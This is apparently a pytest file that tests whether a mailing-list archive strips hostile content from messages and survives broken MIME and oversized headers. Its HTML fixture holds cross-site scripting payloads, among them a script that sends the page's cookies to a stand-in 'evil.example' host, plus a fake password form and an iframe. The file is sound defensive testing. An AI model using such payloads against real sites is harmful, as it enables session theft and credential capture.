"""Messages written to attack the archive's pages or its parser."""

from __future__ import annotations

import re
from datetime import UTC, datetime
from email.message import EmailMessage
from email.utils import format_datetime

import pytest

from listkeeper.archive import store
from listkeeper.archive.models import ArchivedMessage
from listkeeper.lists import services
from listkeeper.lists.models import ArchiveVisibility
from listkeeper.mail import process
from listkeeper.mail.models import PostStatus
from tests.support.archive import make_message

BASE = "/archive/community.lists.example.org/"
HOSTILE_HTML = """<html><body>
<p onclick="steal()">Hello <b>friends</b></p>
<script>document.location='https://evil.example/?'+document.cookie</script>
<a href="javascript:alert(1)">click</a>
<a href="https://example.org/page">a fine link</a>
<img src="https://tracker.example/pixel.gif" onerror="alert(2)">
<style>body{display:none}</style>
<iframe src="https://evil.example/"></iframe>
<form action="https://evil.example/"><input name="password"></form>
<svg><script>alert(3)</script></svg>
</body></html>"""


@pytest.fixture(autouse=True)
def public(ml):
    services.update_list(ml, actor="test", archive_visibility=ArchiveVisibility.PUBLIC)


def _html_only(html: str) -> bytes:
    msg = EmailMessage()
    msg["From"] = "Mallory <mallory@example.net>"
    msg["Subject"] = "<script>alert('subject')</script>"
    msg["Message-ID"] = "<evil@x>"
    msg["Date"] = format_datetime(datetime.now(UTC))
    msg.set_content(html, subtype="html")
    return msg.as_bytes()


def test_scripts_handlers_remote_images_and_javascript_links_never_reach_the_page(client, ml):
    message = store.archive_raw(ml, _html_only(HOSTILE_HTML))
    response = client.get(f"{BASE}m/{message.slug}/")
    html = response.content.decode()
    body = html.split('<div class="html-body">', 1)[1].split("</div>", 1)[0]

    # Our own scripts are files from our origin; nothing else may be a script.
    assert "<script" not in re.sub(r'<script src="/static/[\w/.-]+\.js" defer>', "", html)
    assert re.findall(r"<a [^>]*>", body) == [
        '<a rel="nofollow noopener noreferrer">',
        '<a href="https://example.org/page" rel="nofollow noopener noreferrer">',
    ]
    for forbidden in (
        "onclick",
        "onerror",
        "javascript:",
        "<img",
        "<iframe",
        "<form",
        "<style",
        "<svg",
    ):
        assert forbidden not in body.lower()
    assert "&lt;script&gt;alert(&#x27;subject&#x27;)&lt;/script&gt;" in html
    assert "style-src 'self'" in response["Content-Security-Policy"]


def test_a_message_with_huge_headers_is_archived_and_shown_cut_short(client, ml):
    refs = " ".join(f"<ref{n}@x>" for n in range(5000))
    raw = make_message(
        "S" * 20000, "body\n", message_id="<huge@x>", references=refs, in_reply_to="<ref4999@x>"
    )
    post = process.handle_post(ml, raw, "alice@example.com")

    assert post.status == PostStatus.ACCEPTED
    archived = ArchivedMessage.objects.get()
    assert len(archived.subject) <= 998
    assert len(archived.references.split()) == 50
    assert client.get(f"{BASE}m/{archived.slug}/").status_code == 200


@pytest.mark.parametrize(
    "raw",
    [
        b"From: a@example.org\nMessage-ID: <b1@x>\nContent-Type: multipart/mixed\n\nno boundary\n",
        b"From: a@example.org\nMessage-ID: <b2@x>\nContent-Type: multipart/mixed; boundary=zz\n\n"
        b"--zz\nContent-Type: text/plain; charset=no-such-charset\n\n\xff\xfe broken\n",
        b"From: a@example.org\nMessage-ID: <b3@x>\nContent-Transfer-Encoding: base64\n\n!!!notbase64",
        b"From: =?utf-8?q?=ZZ?= <a@example.org>\nMessage-ID: <b4@x>\nSubject: =?x-unknown?b?AAA?=\n"
        b"Date: not a date\n\n\x00nul byte body\n",
    ],
)
def test_broken_mime_is_archived_and_shown(client, ml, raw):
    process.handle_post(ml, raw, "a@example.org")  # a non-member: held, then approved
    services.subscribe(ml, "a@example.org", actor="test")
    post = process.handle_post(ml, raw.replace(b"<b", b"<c", 1), "a@example.org")

    assert post.status == PostStatus.ACCEPTED
    archived = ArchivedMessage.objects.get(post=post)
    response = client.get(f"{BASE}m/{archived.slug}/")
    assert response.status_code == 200
    assert "\x00" not in archived.body_text
